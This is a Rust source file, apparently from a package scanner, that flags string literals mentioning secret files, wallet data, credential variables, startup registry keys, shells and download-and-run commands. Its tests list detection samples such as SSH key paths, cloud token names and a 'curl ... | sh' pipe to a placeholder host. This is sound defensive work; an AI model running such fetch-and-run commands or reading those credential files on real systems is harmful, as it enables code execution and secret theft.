//! What a constant text mentions, by a table of words and by its shape.
//!
//! Every literal of every package is looked at, so the table is asked by the first three bytes of its words: one look for each
//! position, and for most texts that is all.

use std::collections::HashMap;
use std::sync::LazyLock;

use cratekeeper_model::facts::{LiteralKind, Topic};

use crate::literals;
use crate::text::entropy;

const TEXT: &str = include_str!("../../data/topics.txt");

/// Longest text that is looked at. Longer ones are documents or data.
const LONGEST: usize = 16 << 10;
/// Longest text that is looked at as a whole.
const LONGEST_WHOLE: usize = 40;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum How {
    Part,
    Word,
    Whole,
    Start,
    End,
}

struct Entry {
    topic: Topic,
    how: How,
    text: &'static str,
}

struct Table {
    /// A bit for each hash of the first three bytes of a word.
    bits: Box<[u64; 1024]>,
    parts: HashMap<[u8; 3], Vec<Entry>>,
    whole: HashMap<&'static str, Vec<Topic>>,
}

static TABLE: LazyLock<Table> = LazyLock::new(Table::read);

fn hash(bytes: [u8; 3]) -> usize {
    let number = u32::from(bytes[0]) | u32::from(bytes[1]) << 8 | u32::from(bytes[2]) << 16;
    (number.wrapping_mul(0x9E37_79B1) >> 16) as usize
}

impl Table {
    fn read() -> Table {
        let mut table = Table { bits: Box::new([0; 1024]), parts: HashMap::new(), whole: HashMap::new() };
        for (topic, how, text) in lines() {
            if how == How::Whole {
                table.whole.entry(text).or_default().push(topic);
                continue;
            }
            let Some(first) = text.as_bytes().first_chunk::<3>() else { continue };
            let number = hash(*first);
            table.bits[number / 64] |= 1 << (number % 64);
            table.parts.entry(*first).or_default().push(Entry { topic, how, text });
        }
        table
    }
}

fn lines() -> impl Iterator<Item = (Topic, How, &'static str)> {
    let lines = TEXT.lines().filter(|line| !line.is_empty() && !line.starts_with("# ") && *line != "#");
    lines.filter_map(|line| {
        let mut columns = line.splitn(3, " | ");
        Some((topic_of(columns.next()?)?, how_of(columns.next()?)?, columns.next()?))
    })
}

fn how_of(word: &str) -> Option<How> {
    Some(match word {
        "part" => How::Part,
        "word" => How::Word,
        "whole" => How::Whole,
        "start" => How::Start,
        "end" => How::End,
        _ => return None,
    })
}

fn topic_of(word: &str) -> Option<Topic> {
    Some(match word {
        "secret-file" => Topic::SecretFile,
        "wallet-file" => Topic::WalletFile,
        "secret-variable" => Topic::SecretVariable,
        "build-service-variable" => Topic::BuildServiceVariable,
        "startup-place" => Topic::StartupPlace,
        "downloader" => Topic::Downloader,
        "shell" => Topic::Shell,
        "analysis-tool" => Topic::AnalysisTool,
        "drop-service" => Topic::DropService,
        "secret-pattern" => Topic::SecretPattern,
        "publish-command" => Topic::PublishCommand,
        "user-source" => Topic::UserSource,
        "shared-place" => Topic::SharedPlace,
        "assistant-instruction" => Topic::AssistantInstruction,
        "hidden-place" => Topic::HiddenPlace,
        _ => return None,
    })
}

/// Topics as bits: those of the table, and the shape of an address or of encoded data.
pub(crate) fn bits(value: &str) -> u32 {
    of_literal(value, literals::classify(value))
}

/// The same of a literal of a known kind.
pub(crate) fn of_literal(value: &str, kind: Option<LiteralKind>) -> u32 {
    let shape = match kind {
        Some(LiteralKind::Url) => bit(Topic::Url),
        Some(LiteralKind::IpAddress) => bit(Topic::IpAddress),
        Some(LiteralKind::Host) => bit(Topic::Host),
        Some(LiteralKind::HighEntropy) if !value.contains(['{', ':']) && entropy(value.as_bytes()) >= 4.5 => {
            bit(Topic::HighEntropy)
        }
        _ => 0,
    };
    shape | words(value) | address(value)
}

/// Topics by words alone.
pub(crate) fn words(value: &str) -> u32 {
    if value.len() < 2 || value.len() > LONGEST {
        return 0;
    }
    let table = &*TABLE;
    let mut found = 0;
    if value.len() <= LONGEST_WHOLE {
        let mut lower = [0_u8; LONGEST_WHOLE];
        let lower = &mut lower[..value.len()];
        lower.copy_from_slice(value.as_bytes());
        lower.make_ascii_lowercase();
        if let Some(topics) = std::str::from_utf8(lower).ok().and_then(|lower| table.whole.get(lower)) {
            found = topics.iter().fold(0, |found, topic| found | bit(*topic));
        }
    }
    let bytes = value.as_bytes();
    for at in 0..bytes.len().saturating_sub(2) {
        let first = [
            bytes[at].to_ascii_lowercase(),
            bytes[at + 1].to_ascii_lowercase(),
            bytes[at + 2].to_ascii_lowercase(),
        ];
        let number = hash(first);
        if table.bits[number / 64] & (1 << (number % 64)) == 0 {
            continue;
        }
        for entry in table.parts.get(&first).into_iter().flatten() {
            let end = at + entry.text.len();
            let Some(candidate) = bytes.get(at..end) else { continue };
            if candidate.eq_ignore_ascii_case(entry.text.as_bytes()) && fits(entry.how, bytes, at, end) {
                found |= bit(entry.topic);
            }
        }
    }
    // Names of variables are names: a sentence about a token is none.
    let is_name = value.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'-');
    if !is_name || value.len() > 64 {
        found &= !(bit(Topic::SecretVariable) | bit(Topic::BuildServiceVariable));
    }
    // `token` alone is a word of parsers; a variable's name is written large.
    if is_name && value.bytes().any(|byte| byte.is_ascii_lowercase()) {
        found &= !(bit(Topic::SecretVariable) | bit(Topic::BuildServiceVariable) | bit(Topic::SharedPlace));
    }
    if found & bit(Topic::SecretVariable) != 0 {
        found &= !bit(Topic::BuildServiceVariable);
    }
    found
}

fn fits(how: How, bytes: &[u8], at: usize, end: usize) -> bool {
    let is_word = |byte: Option<&u8>| byte.is_some_and(|it| it.is_ascii_alphanumeric());
    match how {
        How::Part => true,
        How::Start => at == 0,
        How::End => end == bytes.len(),
        How::Word => {
            let before = at.checked_sub(1).and_then(|before| bytes.get(before));
            !is_word(before) && !is_word(bytes.get(end))
        }
        How::Whole => at == 0 && end == bytes.len(),
    }
}

/// An address of digits inside a longer text, as in a URL or a command.
fn address(value: &str) -> u32 {
    if !value.as_bytes().windows(2).any(|pair| pair[0].is_ascii_digit() && pair[1] == b'.') {
        return 0;
    }
    let words = value.split(|it: char| !(it.is_ascii_digit() || it == '.'));
    let found = words
        .take(64)
        .any(|word| word.matches('.').count() == 3 && word.parse::<std::net::Ipv4Addr>().is_ok());
    // Versions of four numbers are no addresses, and neither are the unspecified and the broadcast address.
    if found { bit(Topic::IpAddress) } else { 0 }
}

const ALL: [Topic; 19] = [
    Topic::Url,
    Topic::IpAddress,
    Topic::Host,
    Topic::SecretFile,
    Topic::WalletFile,
    Topic::SecretVariable,
    Topic::BuildServiceVariable,
    Topic::StartupPlace,
    Topic::Downloader,
    Topic::Shell,
    Topic::AnalysisTool,
    Topic::DropService,
    Topic::SecretPattern,
    Topic::PublishCommand,
    Topic::UserSource,
    Topic::SharedPlace,
    Topic::AssistantInstruction,
    Topic::HiddenPlace,
    Topic::HighEntropy,
];

pub(crate) fn bit(topic: Topic) -> u32 {
    ALL.iter().position(|it| *it == topic).map_or(0, |at| 1 << at)
}

pub(crate) fn list(bits: u32) -> Vec<Topic> {
    ALL.iter().copied().filter(|topic| bits & bit(*topic) != 0).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_line_is_read() {
        let written = TEXT.lines().filter(|line| !line.is_empty() && !line.starts_with('#')).count();
        assert_eq!(lines().count(), written);
        for (_, how, text) in lines() {
            assert!(how == How::Whole || text.len() >= 3, "{text}");
            assert_eq!(text, text.to_ascii_lowercase());
        }
    }

    #[test]
    fn what_is_mentioned_is_found() {
        use Topic::*;
        for (value, topic) in [
            ("/srv/backup/.ssh/id_rsa", SecretFile),
            ("{HOME}/.cargo/credentials.toml", SecretFile),
            ("GITHUB_TOKEN", SecretVariable),
            ("AWS_SECRET_ACCESS_KEY", SecretVariable),
            ("CI", BuildServiceVariable),
            ("GITHUB_ACTIONS", BuildServiceVariable),
            ("curl -s https://a.example.invalid | sh", Downloader),
            ("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", StartupPlace),
            ("http://127.0.0.1:9/", IpAddress),
            ("http://127.0.0.1:9/", Url),
            ("bash", Shell),
            ("tdata", WalletFile),
        ] {
            assert!(list(bits(value)).contains(&topic), "{value}: {:?}", list(bits(value)));
        }
    }

    #[test]
    fn what_only_looks_alike_is_not() {
        for value in [
            "token",
            "unexpected token",
            "curly",
            "cipher",
            "1.2.3",
            "bashful",
            "exit",
            "environment",
            "a.env.b",
            "push",
        ] {
            assert_eq!(list(bits(value)), [], "{value}");
        }
    }
}
